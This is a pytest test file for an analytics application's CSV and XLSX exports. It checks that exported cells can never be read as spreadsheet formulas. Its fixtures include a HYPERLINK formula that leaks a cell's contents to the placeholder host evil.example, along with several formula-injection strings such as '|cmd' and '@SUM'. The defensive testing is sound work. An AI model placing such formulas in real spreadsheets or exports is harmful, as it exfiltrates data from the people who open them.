"""Exported files never carry a formula: the helper, then every CSV and XLSX export Alur writes."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.test import Client

from alur.analytics.models import DataSource, Import
from alur.analytics.services import imports, sources
from alur.config import cli
from alur.core.exports import csv_dict_writer, csv_writer, escape_cell, xlsx_row
from alur.core.roles import Role

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
DANGEROUS = [LINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "|cmd", "%x", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def _is_escaped(text: str) -> bool:
    return text.startswith("'")


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_could_start_a_formula_gets_an_apostrophe(value: str) -> None:
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Promo 12.12", "-12.5", "+62", "1,234.5", "", "a=b", 3, -4.5, None])
def test_ordinary_text_and_numbers_are_left_alone(value: Any) -> None:
    assert escape_cell(value) == value


def test_the_csv_writers_escape_every_cell() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(DANGEROUS)
    writer.writerows([[LINK, -3, "-3"]])
    dict_out = io.StringIO()
    dict_writer = csv_dict_writer(dict_out, ["a", "b"])
    dict_writer.writeheader()
    dict_writer.writerow({"a": LINK, "b": 1})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert all(_is_escaped(cell) for cell in rows[0])
    assert rows[1] == ["'" + LINK, "-3", "-3"]
    assert list(csv.DictReader(io.StringIO(dict_out.getvalue()))) == [{"a": "'" + LINK, "b": "1"}]


def test_xlsx_rows_are_strings_never_formulas() -> None:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(xlsx_row(sheet, [*DANGEROUS, 7, "ok"]))
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert all(cell.data_type != "f" for cell in cells)
    assert all(str(c.value).startswith("'") for c in cells[: len(DANGEROUS)])  # a CR reads back as LF
    assert cells[0].value == "'" + LINK
    assert cells[-2].value == 7 and cells[-1].value == "ok"


# The exports themselves ---------------------------------------------------------------------------


def _client(login: Any, user: Any) -> Client:
    user.language = "en"
    user.save(update_fields=["language"])
    return login(user)


def _import_rows(team: Any) -> None:
    sources.sources_ensure(team.workspace)
    imp = imports.metric_rows_import(
        actor=team.members[Role.DATA_ANALYST],
        workspace=team.workspace,
        source=DataSource.objects.get(workspace=team.workspace, key="meta_ads"),
        rows=[
            {"date": (dt.date(2026, 11, 1) + dt.timedelta(days=n)).isoformat(), "channel": "@instagram",
             "campaign": LINK, "spend": 1000, "clicks": 10, "impressions": 100, "currency": "IDR"}
            for n in range(3)
        ],
    )  # fmt: skip
    assert imp.status == Import.Status.SUCCEEDED, imp.report


@pytest.mark.django_db
def test_the_dashboard_exports_escape_a_campaign_named_like_a_formula(team: Any, warehouse_url: str, login: Any) -> None:
    _import_rows(team)
    client = _client(login, team.members[Role.DATA_ANALYST])
    base = f"/w/{team.workspace.slug}/analytics/?start=2026-11-01&end=2026-11-03&by=campaign"
    text = client.get(base + "&export=csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["campaign"] for r in rows] == ["'" + LINK]
    assert "\n=" not in text and ",=" not in text
    book = openpyxl.load_workbook(io.BytesIO(client.get(base + "&export=xlsx").content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + LINK in [cell.value for cell in cells]
    channel = client.get(base.replace("by=campaign", "by=channel") + "&export=csv").content.decode()
    assert [r["channel"] for r in csv.DictReader(io.StringIO(channel))] == ["'@instagram"]


@pytest.mark.django_db
def test_the_attribution_export_escapes_a_channel_named_like_a_formula(team: Any, warehouse_url: str, login: Any) -> None:
    client = _client(login, team.members[Role.DATA_ANALYST])
    quoted = '"' + LINK.replace('"', '""') + '"'
    upload = io.BytesIO(f"path,total_conversions,total_conversion_value,total_null\n{quoted},1,100,0\n".encode())
    upload.name = "paths.csv"
    response = client.post(f"/w/{team.workspace.slug}/analytics/attribution/", {"file": upload, "sep": ">", "export": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["channel"] for r in rows] == ["'" + LINK]


def test_the_cli_attribution_csv_escapes_a_channel_named_like_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    paths = tmp_path / "paths.csv"
    paths.write_text("path,total_conversions,total_conversion_value,total_null\n@evil > Search,1,100,0\n")
    assert cli.main(["attribution", str(paths), "--model", "linear"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["channel"] for r in rows} == {"'@evil", "Search"}
